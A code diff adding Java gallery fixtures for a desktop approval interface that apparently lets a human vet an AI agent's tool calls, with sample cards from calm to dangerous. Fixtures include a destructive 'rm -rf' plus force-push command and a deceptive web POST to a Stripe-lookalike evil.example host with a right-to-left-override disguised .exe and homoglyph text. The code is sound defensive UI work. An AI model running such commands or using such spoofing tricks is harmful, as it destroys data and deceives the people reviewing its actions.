@@ -1,0 +1,108 @@
+package dev.assent.desktop.gallery;
+
+import dev.assent.core.access.Operation;
+import dev.assent.core.access.SideEffect;
+import dev.assent.core.approval.ApprovalRequest;
+import dev.assent.core.approval.Remembering;
+import dev.assent.core.approval.Tier;
+import dev.assent.core.policy.Effect;
+import dev.assent.desktop.approval.ApprovalView;
+import dev.assent.desktop.approval.ApprovalViewModel;
+import dev.assent.desktop.approval.FakeDesk;
+import dev.assent.desktop.approval.Requests;
+import dev.assent.desktop.ui.ManualTicker;
+import java.time.Duration;
+import java.util.List;
+import javafx.scene.Parent;
+import javafx.scene.layout.StackPane;
+
+/// Cards of every tier, and the Waiting page.
+final class ApprovalExhibits {
+  private ApprovalExhibits() {}
+
+  static List<Exhibit> all() {
+    return List.of(
+        new Exhibit("card-calm", 704, 460, () -> floating(19_000, calm(), care(), danger())),
+        new Exhibit("card-care", 704, 620, () -> floating(13_000, care(), calm(), danger())),
+        new Exhibit("card-danger", 704, 640, () -> floating(52_000, danger(), calm(), care(), deceptive(), mail())),
+        new Exhibit("card-deceptive", 704, 620, () -> floating(5_000, deceptive())),
+        new Exhibit("card-two-buttons", 704, 460, () -> floating(5_000, mail())));
+  }
+
+  static ApprovalRequest calm() {
+    String path = "/home/sam/code/payments-api/ledger/Balance.java";
+    return Requests.read("calm").arguments("{\"path\":\"" + path + "\",\"head\":120}").path("/path", path).build();
+  }
+
+  static ApprovalRequest care() {
+    String path = "/home/sam/code/payments-api/config/environments/production/eu-central/retry.yaml";
+    return Requests.read("care")
+        .tool("filesystem", "write_file")
+        .operation(Operation.WRITE)
+        .effects(SideEffect.FS_WRITE)
+        .tier(Tier.CARE)
+        .rule("Project writes", Effect.ALLOW)
+        .arguments(
+            "{\"path\":\""
+                + path
+                + "\",\"content\":\"retry:\\n  attempts: 8\\n  backoff: exponential\\n  max_delay: 30s\\ntimeout: 5s\\n"
+                + "hosts: [\\\"api.stripe.com\\\"]\\n# one\\n# two\\n# three\\n# four\\n\",\"dry_run\":false,"
+                + "\"options\":{\"mode\":\"0644\",\"owner\":null}}")
+        .path("/path", path)
+        .build();
+  }
+
+  static ApprovalRequest danger() {
+    return Requests.command("danger", "rm -rf ~/code/payments-api/build\n&& git push --force origin main")
+        .rule("Never force-push", Effect.DENY)
+        .arguments(
+            "{\"command\":\"rm -rf ~/code/payments-api/build\\n&& git push --force origin main\",\"timeout\":120,"
+                + "\"cwd\":\"/home/sam/code/payments-api\"}")
+        .build();
+  }
+
+  static ApprovalRequest deceptive() {
+    return Requests.read("deceptive")
+        .tool("web", "post")
+        .operation(Operation.WRITE)
+        .unknownEffects()
+        .tier(Tier.DANGER)
+        .remembering(new Remembering.NotOffered(Remembering.Reason.UNKNOWN_EFFECTS))
+        .arguments(
+            "{\"url\":\"https://api.str\u0456pe.com.evil.example/v1?x=1\",\"file\":\"invoice\u202Efdp.exe\","
+                + "\"note\":\"pa\u200Byment \u0430ccount\",\"body\":\""
+                + "x".repeat(500)
+                + "\"}")
+        .build();
+  }
+
+  static ApprovalRequest mail() {
+    return Requests.read("mail")
+        .tool("mail", "send_mail")
+        .operation(null)
+        .effects(SideEffect.EMAIL_SEND, SideEffect.NETWORK_EGRESS)
+        .tier(Tier.CARE)
+        .remembering(new Remembering.NotOffered(Remembering.Reason.SWITCHED_OFF))
+        .arguments("{\"to\":[\"ann@example.org\",\"bob@example.org\"],\"subject\":\"Report\"}")
+        .life(Duration.ofSeconds(60))
+        .build();
+  }
+
+  private static Parent floating(long millis, ApprovalRequest... requests) {
+    var desk = new FakeDesk();
+    var ticker = new ManualTicker(Requests.NOW);
+    var model = new ApprovalViewModel(desk, ticker);
+    var view = new ApprovalView(model);
+    view.node().getStyleClass().add("as-card-floating");
+    desk.ask(requests);
+    model.queueChanged(desk.queue());
+    model.setOnScreen(true);
+    ticker.advance(millis);
+    model.attend();
+    ticker.advance(900);
+    var ground = new StackPane(view.node());
+    ground.getStyleClass().add("as-canvas");
+    ground.setPadding(new javafx.geometry.Insets(28, 32, 28, 32));
+    return ground;
+  }
+}
